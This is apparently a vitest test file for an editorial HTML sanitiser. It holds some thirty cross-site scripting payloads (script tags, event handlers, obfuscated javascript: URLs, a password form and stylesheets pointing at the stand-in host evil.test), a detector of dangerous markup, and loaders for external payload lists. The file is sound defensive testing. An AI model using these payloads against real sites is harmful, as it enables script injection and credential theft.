import { existsSync, readdirSync, readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { describe, expect, test } from "vitest";
import { sanitizeEditorialHtml } from "./sanitize-html.ts";

// The parser that the sanitiser itself uses.
const require = createRequire(createRequire(import.meta.url).resolve("sanitize-html"));
const parserPackage = "htmlparser2";
const { Parser } = require(parserPackage) as {
  Parser: new (handlers: {
    onopentag: (name: string, attributes: Record<string, string>) => void;
  }) => { write: (html: string) => void; end: () => void };
};

const harmlessTags =
  /^(p|h[234]|ul|ol|li|blockquote|strong|em|b|i|su[pb]|a|br|hr|figure|figcaption|img|table|thead|tbody|tr|t[hd]|d[ltd]|cite|abbr|caption|s|del|ins|mark|u|q|small|dfn|code|kbd|samp|var|pre|details|summary|tfoot|div)$/;
const harmlessAttributes =
  /^(href|rel|src|alt|width|height|loading|scope|colspan|rowspan|title|id|start|type|reversed|value|aria-label)$/;
/** The classes that prose-forms.css draws, and the ids of link targets in a text. */
const harmlessClasses =
  /^(align-(left|right|center)|gallery|embed|player|columns?|group|row|panel|cover(-light)?|dim-[789]0|focus-(top|bottom|left|right)|media-(text|right)|buttons?|outline|file|space|verse|upper-(alpha|roman)|pull-quote|page-break)$/;

/** Lists parts of this HTML that could run or load something, or imitate the interface. */
function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => {
      if (!harmlessTags.test(name)) dangers.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (/^(table|pre)$/.test(name) && attribute === "tabindex" && value === "0") continue;
        if (attribute === "class" && value.split(" ").every((one) => harmlessClasses.test(one)))
          continue;
        if (attribute === "id" && !/^h[23]$/.test(name) && !/^note-[\w-]+$/.test(value))
          dangers.push(`id=${value}`);
        if (!harmlessAttributes.test(attribute)) dangers.push(`${attribute}=`);
        // As a browser reads an address: without spaces and control characters.
        // biome-ignore lint/suspicious/noControlCharactersInRegex: naming them is the point
        const address = value.replace(/[\u0000-\u0020\u007f-\u009f\u00ad\u200b-\u200f\ufeff]/g, "");
        if (/^(javascript|vbscript|data|file|blob):/i.test(address))
          dangers.push(`${attribute}=${value}`);
        if (attribute === "src" && !/^(?![/\\]{2})(?![a-z][a-z0-9+.-]*:)/i.test(address))
          dangers.push(`foreign ${value}`);
      }
    },
  });
  parser.write(html);
  parser.end();
  return dangers;
}

const ownPayloads = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.test></ScRiPt>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<a href=javascript:alert(1)>x</a>",
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
  "<a href=vbscript:msgbox(1)>x</a>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object><embed src=//evil.test>",
  "<form action=//evil.test><input name=password><button formaction=javascript:alert(1)>x</button></form>",
  "<p style='background:url(//evil.test)'>x</p><style>@import '//evil.test'</style>",
  "<base href=//evil.test><link rel=stylesheet href=//evil.test><meta http-equiv=refresh content='0;url=//evil.test'>",
  "<img src=//evil.test/a.png><img src='https://evil.test/a.png'><img src='/\\evil.test/a.png'><img src='\\\\evil.test/a.png'>",
  "<img srcset='//evil.test/a.png 2x' src=/a.png>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<template><script>alert(1)</script></template>",
  "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
  "<p id=location name=cookie class=x data-x=1 contenteditable autofocus onfocus=alert(1)>x</p>",
  "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?php x ?>",
  "<p><<script>alert(1)//<</script></p>",
  '<a href="https://ok.test" target=_blank onclick=alert(1) ping=//evil.test>x</a>',
  '<div class="fixed inset-0 z-50 button">x</div><p class="buttons sr-only" id="main">x</p>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1) class="button">x</summary></details>',
  '<pre tabindex=5 class="verse x" id=note-1>x</pre><li id="comments">x</li><a id="top" name=x>x</a>',
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
];

describe("sanitizeEditorialHtml", () => {
  test("the check below finds dangerous HTML", () => {
    expect(ownPayloads.filter((payload) => dangersIn(payload).length === 0)).toEqual([]);
  });

  // spec §5: text screening: script-like markup
  test.each(ownPayloads)("leaves nothing that could run or load in %s", (payload) => {
    expect(dangersIn(sanitizeEditorialHtml(payload))).toEqual([]);
  });

  test("keeps editorial HTML", () => {
    const html =
      '<h2 id="why">Why</h2><p>A <strong>bold</strong> word, <a href="/posts/a">a link</a>, <em>more</em>.</p><ul><li>One</li></ul><table tabindex="0"><caption>Times</caption><thead><tr><th scope="col">Day</th></tr></thead><tbody><tr><td colspan="2">Monday</td></tr></tbody></table><blockquote><p>Words</p><cite>Someone</cite></blockquote><dl><dt>a</dt><dd>b</dd></dl>';
    expect(sanitizeEditorialHtml(html)).toBe(html);
  });

  test("keeps block classes and the targets of links within a text", () => {
    const html =
      '<figure class="align-left"><img src="/media/imports/a.jpg" alt="A" width="2" height="1" loading="lazy" /><figcaption>B</figcaption></figure><div class="media-text media-right"><div><p class="buttons"><a class="button" href="/a">x</a></p></div></div><pre tabindex="0"><code>[x]</code></pre><pre class="verse">y</pre><details><summary>a</summary><p>b</p></details><p>1<sup><a href="#note-a" id="note-a-link">1</a></sup></p><ol start="3"><li value="7" id="note-a">c <a href="#note-a-link" aria-label="Back">↩</a></li></ol>';
    expect(sanitizeEditorialHtml(html)).toBe(html);
  });

  test("classes of the product and ids of its pages are no part of a text", () => {
    expect(
      sanitizeEditorialHtml(
        '<div class="panel fixed inset-0"><p id="main" class="is-busy">a</p></div><h4 id="x">b</h4>',
      ),
    ).toBe('<div class="panel"><p>a</p></div><h4>b</h4>');
  });

  test("a table can be reached by the keyboard, to slide within itself", () => {
    expect(sanitizeEditorialHtml('<table tabindex="9" onfocus="x()"></table>')).toBe(
      '<table tabindex="0"></table>',
    );
  });

  test("pictures of the site are kept and load lazily, external links send no referrer", () => {
    expect(sanitizeEditorialHtml('<img src="/media/a.svg" alt="A">')).toBe(
      '<img src="/media/a.svg" alt="A" loading="lazy" />',
    );
    expect(sanitizeEditorialHtml('<a href="https://ok.test/">x</a>')).toBe(
      '<a href="https://ok.test/" rel="noopener nofollow">x</a>',
    );
    expect(sanitizeEditorialHtml('<a href="mailto:a@b.test">x</a>')).toContain("mailto:a@b.test");
  });

  test("sanitizing twice gives the same result", () => {
    for (const payload of [...ownPayloads, "", "<script>x</script>"]) {
      const once = sanitizeEditorialHtml(payload);
      expect(sanitizeEditorialHtml(payload)).toBe(once);
      expect(sanitizeEditorialHtml(once)).toBe(once);
    }
  });
});

const data = new URL("../../../../shared/data/adversarial/", import.meta.url);
describe("known payloads", () => {
  const xss = new URL("xss/", data);
  test.skipIf(!existsSync(xss))(
    "of the collected lists, alone and inside a paragraph, are made harmless",
    () => {
      const lines = readdirSync(xss)
        .flatMap((file) => readFileSync(new URL(file, xss), "utf8").split(/\r?\n/))
        .filter(Boolean);
      expect(lines.length).toBeGreaterThan(500);
      const left = lines
        .flatMap((line) => [
          line,
          `<p title="${line}">${line}</p>`,
          `<a href="${line}">x</a><img src="${line}">`,
        ])
        .filter((html) => dangersIn(sanitizeEditorialHtml(html)).length > 0);
      expect(left).toEqual([]);
    },
  );

  const expectations = new URL("dompurify-expect-even.json", data);
  test.skipIf(!existsSync(expectations))(
    "of another sanitiser's own tests are made harmless",
    () => {
      const payloads = (
        JSON.parse(readFileSync(expectations, "utf8")) as { payload?: string }[]
      ).flatMap(({ payload }) => (payload ? [payload] : []));
      expect(payloads.length).toBeGreaterThan(20);
      expect(
        payloads.filter((payload) => dangersIn(sanitizeEditorialHtml(payload)).length > 0),
      ).toEqual([]);
    },
  );
});

describe("sounds and films", () => {
  const own = "/media/imports/0123456789abcdef0123456789abcdef";

  test("of this product have a player that starts on request", () => {
    expect(
      sanitizeEditorialHtml(
        `<figure class="player"><video src="${own}.mp4" autoplay onplay="x()" poster="https://a.example/b" aria-label="A film"></video></figure>`,
      ),
    ).toBe(
      `<figure class="player"><video controls preload="none" src="${own}.mp4" aria-label="A film"></video></figure>`,
    );
  });

  test("keep a picture, captions and switches of this product, and lose those of other servers", () => {
    const film = `<video src="${own}.mp4" poster="${own}.jpg" loop muted playsinline><track src="${own}.vtt" kind="captions" srclang="en" label="English" default onload="x()"><track src="https://a.example/b.vtt" kind="captions"><track src="${own}.mp4"></video>`;
    expect(sanitizeEditorialHtml(film)).toBe(
      `<video controls preload="none" src="${own}.mp4" poster="${own}.jpg" loop muted playsinline><track src="${own}.vtt" kind="captions" srclang="en" label="English" default /></video>`,
    );
  });

  test.each([
    "https://elsewhere.example/a.mp3",
    "//elsewhere.example/a.mp3",
    "/api/session",
    `${own}.svg`,
    `${own}.mp3/../../../api`,
    "",
  ])("at %j are removed", (address) => {
    expect(sanitizeEditorialHtml(`<p>a</p><audio src="${address}" controls></audio>`)).toBe(
      "<p>a</p>",
    );
  });
});
